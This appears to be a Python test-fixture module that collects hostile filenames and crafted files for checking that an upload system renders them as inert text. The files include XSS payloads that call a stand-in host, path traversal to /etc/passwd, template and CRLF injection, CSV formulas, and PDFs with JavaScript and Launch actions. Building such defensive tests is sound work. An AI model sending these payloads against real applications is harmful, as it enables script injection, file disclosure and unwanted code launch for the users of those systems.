"""Names and contents that would become something else than text, if anything of ours read them as such.

Each content asks `ELSEWHERE` for something, or says `alert(1)`, as soon as it is run or read as what it could be.
"""

import struct
import zlib
from collections.abc import Mapping
from typing import Final

from tests.files import archive, mp4, pdf, png, with_external_template

ELSEWHERE: Final = "http://elsewhere.example"
"""A host that nobody may be led to ask for anything."""

NAMES: Final = (
    "<script>alert(1)</script>.md",
    f"<script src={ELSEWHERE}/a></script>.md",
    f"<img src={ELSEWHERE}/b onerror=alert(1)>.md",
    "<svg onload=alert(1)>.svg",
    "'\"><b id=pwned>.md",
    '"onmouseover=alert(1) x=".md',
    "a' onclick='alert(1).md",
    "`onclick=alert(1)`.md",
    "</a><a href=javascript:alert(1)>.md",
    "</li></ul></main><script>alert(1)</script>.html",
    "</title></textarea></style><script>alert(1)</script>.md",
    f"<iframe src={ELSEWHERE}/c>.md",
    f"<link rel=prefetch href={ELSEWHERE}/d>.md",
    f"<meta http-equiv=refresh content=0;url={ELSEWHERE}/e>.md",
    f"<base href={ELSEWHERE}/>.md",
    f"<object data={ELSEWHERE}/f><embed src={ELSEWHERE}/g>.md",
    f"<video><source src={ELSEWHERE}/h onerror=alert(1)>.md",
    "<details open ontoggle=alert(1)>.md",
    "<input autofocus onfocus=alert(1)>.md",
    "<form id=pwned><button formaction=javascript:alert(1)>.md",
    "<style>*{display:none}</style>.md",
    "<math><mi//xlink:href=data:x,<script>alert(1)</script>>.md",
    "<template><script>alert(1)</script></template>.md",
    "<!--.md",
    "--><!-->.md",
    "]]>.xml",
    "&lt;script&gt;alert(1)&lt;/script&gt;.md",
    "&#60;script&#62;.md",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E.md",
    "\\u003cscript\\u003e.md",
    "javascript:alert(1).md",
    "data:text/html,<script>alert(1)</script>.html",
    f"//{ELSEWHERE[7:]}/x.md",
    "../../../etc/passwd.md",
    "C:\\Windows\\win.ini.md",
    "a/../../b.md",
    "{{7*7}}.md",
    "{% include 'base.html' %}.md",
    "${7*7}#{7*7}<%= 7*7 %>.md",
    "%(name)s {0} %s.md",
    'a.pdf"; filename="b.exe',
    "a%0d%0aSet-Cookie: x=1.md",
    "a?download=no#top&x=y;z.md",
    "=HYPERLINK(1),@x,+1,-1.csv",
    "con.md",
    ".htaccess.md",
    "😀 👩\u200d👩\u200d👧 Протокол № 3.md",
    "\u200b\ufeffnothing\u00ad seen.md",
    "חוזה (1) عقد.md",
    "e\u0301 é \ufb01 \uff21.md",
    "x" * 196 + ".md",
    "Ж" * 197 + ".md",
)
"""As they may stand in the record, those among them that no page takes any more."""


def _with_text(picture: bytes, text: bytes) -> bytes:
    """A picture with a comment behind its header."""
    chunk = b"tEXtComment\0" + text
    comment = struct.pack("!I", len(chunk) - 4) + chunk + struct.pack("!I", zlib.crc32(chunk))
    return picture[:33] + comment + picture[33:]


_PAGE: Final = f"<img src={ELSEWHERE}/p onerror=alert(1)><script>alert(1)</script>".encode()
_XHTML: Final = b'<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'
SCRIPT: Final = "script.txt"
"""What is a script for whoever takes it for one."""
CONTENTS: Final[Mapping[str, bytes]] = {
    "page.txt": _PAGE,
    "late page.md": b"# Impact\n\n" * 200 + _PAGE,
    "seven bits.txt": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "wide.txt": _PAGE.decode().encode("utf-16"),
    "page.csv": b"a;b\r\n" + _PAGE + b";2\r\n",
    "formula.csv": f'=HYPERLINK("{ELSEWHERE}","x")\r\n'.encode(),
    "page.json": b'{"a": "</script>' + _PAGE + b'"}',
    "page.yaml": b"a: '" + _PAGE + b"'\n",
    "xhtml.xml": b'<?xml version="1.0"?><bom>' + _XHTML + b"</bom>",
    "styled.xml": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{ELSEWHERE}/s"?><bom/>'.encode(),
    "script.pdf": pdf(catalogue=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "launch.pdf": pdf(catalogue=b"/OpenAction<</S/Launch/F(calc)>>"),
    "link.pdf": pdf(catalogue=f"/OpenAction<</S/URI/URI({ELSEWHERE}/u)>>".encode()),
    "template.docx": with_external_template(),
    "commented.png": _with_text(png(), _PAGE),
    "page.mp4": mp4() + struct.pack("!I", len(_PAGE) + 8) + b"free" + _PAGE,
    "site.zip": archive({"index.html": _PAGE, "x.svg": b'<svg onload="alert(1)"/>'}),
    SCRIPT: b"alert(1)",
}
"""Files that are accepted, whatever they hold for those who take them for something else."""
